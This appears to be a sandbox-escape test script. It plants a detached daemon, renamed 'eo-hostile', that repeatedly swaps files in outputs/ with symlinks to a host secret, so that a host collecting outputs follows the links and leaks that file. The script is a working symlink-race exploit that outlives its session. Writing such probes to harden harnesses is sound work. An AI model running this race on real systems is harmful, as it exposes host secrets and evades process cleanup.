"""A daemon exchanges a file and a folder in outputs/ for links to the secret and back, for 60 seconds.
Success: the host looks at the file and opens the link."""
import json
import os
import time

FACTS = json.loads(os.environ.get("HOST_FACTS", "{}"))
secret = FACTS.get("hostSecretFile", "/etc/hostname")
print("begin", flush=True)
os.makedirs("outputs/folder", exist_ok=True)
for name in ("outputs/file.txt", "outputs/folder/" + os.path.basename(secret)):
    with open(name, "w") as file:
        file.write("honest")
os.symlink(secret, "link-to-file")
os.symlink(os.path.dirname(secret), "link-to-folder")


def exchange(one, two):
    os.rename(one, "spare")
    os.rename(two, one)
    os.rename("spare", two)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        with open("/proc/self/comm", "w") as file:
            file.write("eo-hostile")
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        until = time.monotonic() + 60
        while time.monotonic() < until:
            try:
                exchange("outputs/file.txt", "link-to-file")
                exchange("outputs/folder", "link-to-folder")
            except OSError:
                break
            time.sleep(0.0005)
    os._exit(0)
os.wait()
print("MADE: a daemon that exchanges", flush=True)
